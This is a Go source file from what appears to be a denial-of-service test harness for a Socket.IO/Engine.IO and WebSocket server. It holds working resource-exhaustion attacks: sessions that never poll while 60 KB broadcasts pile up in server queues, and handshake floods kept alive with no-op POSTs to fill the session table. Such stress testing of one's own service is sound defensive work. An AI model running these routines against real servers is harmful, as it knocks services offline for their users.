package main

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/coder/websocket"
)

// eioClients makes one long-polling client per attacker address, sharing conc connections.
func eioClients(env *attackEnv) []*eioClient {
	per := max(2, env.conc/len(env.addrs))
	out := make([]*eioClient, len(env.addrs))
	for i, a := range env.addrs {
		out[i] = newEIOClient(env.server, a, per)
	}
	return out
}

func closeEIOClients(cs []*eioClient) {
	for _, c := range cs {
		c.close()
	}
}

// heldSession is an Engine.IO session the attacker opened, and the client it came from.
type heldSession struct {
	c   *eioClient
	sid string
}

// closeSessions sends each session the Engine.IO close packet, so the next attack starts
// on an empty table.
func closeSessions(ctx context.Context, env *attackEnv, held []heldSession) {
	forEach(ctx, len(held), env.conc, func(i int) {
		cctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		_ = held[i].c.post(cctx, held[i].sid, "1")
		cancel()
	})
}

// roomPeers is how many attacking peers share a room with one sender (the default
// --max-peers is 50).
const roomPeers = 49

// bigMessage is a broadcast whose data is a string of n bytes.
func bigMessage(n int) []byte {
	return []byte(`{"type":"message","broadcast":true,"data":"` + strings.Repeat("x", n) + `"}`)
}

// attackSIOQueue is item 1: Socket.IO long-polling sessions that never GET, 49 to a room
// with a native sender broadcasting 60 KB messages: every event waits in the session's
// queue on the server.
func attackSIOQueue(ctx context.Context, env *attackEnv) error {
	cs := eioClients(env)
	defer closeEIOClients(cs)
	runID := randHex(4)
	room := func(i int) string { return fmt.Sprintf("h1-%s-%d", runID, i/roomPeers) }
	outcomes := newTally()
	var mu sync.Mutex
	var held []heldSession
	forEach(ctx, env.size, env.conc, func(i int) {
		c := cs[i%len(cs)]
		sid, err := c.handshake(ctx)
		if err != nil {
			outcomes.add(errKey(err), 1)
			return
		}
		mu.Lock()
		held = append(held, heldSession{c, sid})
		mu.Unlock()
		// CONNECT and join in one POST; the CONNECT answer and everything after it stays
		// queued: this session never polls again.
		if err := c.post(ctx, sid, "40\x1e"+`42["join",{"room":"`+room(i)+`"}]`); err != nil {
			outcomes.add("join-"+errKey(err), 1)
			return
		}
		outcomes.add("ok", 1)
	})
	env.logf("sessions: %s", outcomes)
	env.res.add("sessions", outcomes.String())
	defer closeSessions(context.WithoutCancel(ctx), env, held)

	// One sender per room (attacker addresses round-robin), broadcasting.
	rooms := (env.size + roomPeers - 1) / roomPeers
	senders, refused := openSenders(ctx, env, rooms, func(r int) string { return room(r * roomPeers) })
	defer closeSenders(senders)
	env.res.int("senders", int64(len(senders)))
	env.res.add("senders_refused", refused.String())
	msg := bigMessage(60_000)
	sent := broadcast(ctx, env, senders, msg, 40, 10)
	env.res.int("broadcasts", sent)
	env.logf("senders: %d (refused %s); %d broadcasts of %d B sent", len(senders), refused, sent, len(msg))
	return nil
}

// sender is a native peer that floods its room.
type sender struct {
	c    *websocket.Conn
	done chan struct{}
}

// openSenders joins one native peer to each of n rooms, from the attacker's addresses.
func openSenders(ctx context.Context, env *attackEnv, n int, room func(int) string) ([]*sender, *tally) {
	url := "ws" + strings.TrimPrefix(env.server, "http") + "/ws"
	refused := newTally()
	out := make([]*sender, n)
	forEach(ctx, n, 16, func(r int) {
		c, _, err := dialNative(ctx, url, env.addr(r), room(r))
		if err != nil {
			refused.add(errKey(err), 1)
			return
		}
		s := &sender{c: c, done: make(chan struct{})}
		go func() { // read (and answer pings) until closed
			defer close(s.done)
			for {
				if _, _, err := c.Read(context.Background()); err != nil {
					return
				}
			}
		}()
		out[r] = s
	})
	var ok []*sender
	for _, s := range out {
		if s != nil {
			ok = append(ok, s)
		}
	}
	return ok, refused
}

func closeSenders(ss []*sender) {
	for _, s := range ss {
		_ = s.c.CloseNow()
		<-s.done
	}
}

// broadcast has every sender send burst messages at once, then rate per second each until
// hold has passed, within the server's default rate limit (200/s, burst 400); env.peak runs
// a second after the bursts. It returns how many were sent.
func broadcast(ctx context.Context, env *attackEnv, senders []*sender, msg []byte, burst, rate int) int64 {
	var sent atomic.Int64
	var bursts, all sync.WaitGroup
	end := time.Now().Add(env.hold)
	write := func(s *sender) bool {
		wctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		defer cancel()
		if err := s.c.Write(wctx, websocket.MessageText, msg); err != nil {
			return false
		}
		sent.Add(1)
		return true
	}
	for _, s := range senders {
		bursts.Add(1)
		all.Add(1)
		go func() {
			defer all.Done()
			ok := true
			for i := 0; i < burst && ok; i++ {
				ok = write(s)
			}
			bursts.Done()
			t := time.NewTicker(time.Second / time.Duration(max(rate, 1)))
			defer t.Stop()
			for ok && time.Now().Before(end) {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
				}
				ok = write(s)
			}
		}()
	}
	bursts.Wait()
	_ = sleepCtx(ctx, time.Second)
	env.peak(ctx)
	all.Wait()
	return sent.Load()
}

// attackSIOTable is item 2: Engine.IO handshakes as fast as the server answers, to fill its
// session table, then no-op POSTs to keep the sessions alive.
func attackSIOTable(ctx context.Context, env *attackEnv) error {
	cs := eioClients(env)
	defer closeEIOClients(cs)
	outcomes := newTally()
	var mu sync.Mutex
	var held []heldSession
	start := time.Now()
	forEach(ctx, env.size, env.conc, func(i int) {
		c := cs[i%len(cs)]
		sid, err := c.handshake(ctx)
		if err != nil {
			outcomes.add(errKey(err), 1)
			return
		}
		outcomes.add("ok", 1)
		mu.Lock()
		held = append(held, heldSession{c, sid})
		mu.Unlock()
	})
	took := time.Since(start)
	env.logf("handshakes: %s in %.1fs", outcomes, took.Seconds())
	env.res.add("handshakes", outcomes.String())
	env.res.int("fill_ms", took.Milliseconds())
	defer closeSessions(context.WithoutCancel(ctx), env, held)
	if len(held) == 0 {
		env.peak(ctx)
		return nil
	}

	// Keep them alive with no-op POSTs while the newcomer tries.
	noops := newTally()
	hctx, cancel := context.WithTimeout(ctx, env.hold)
	defer cancel()
	var next atomic.Int64
	var wg sync.WaitGroup
	for range min(env.conc, len(held)) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for hctx.Err() == nil {
				h := held[int(next.Add(1)-1)%len(held)]
				if err := h.c.post(hctx, h.sid, "6"); err != nil {
					if hctx.Err() == nil {
						noops.add(errKey(err), 1)
					}
					continue
				}
				noops.add("ok", 1)
			}
		}()
	}
	env.peak(ctx)
	<-hctx.Done()
	wg.Wait()
	env.logf("no-op POSTs: %s", noops)
	env.res.add("noops", noops.String())
	return nil
}
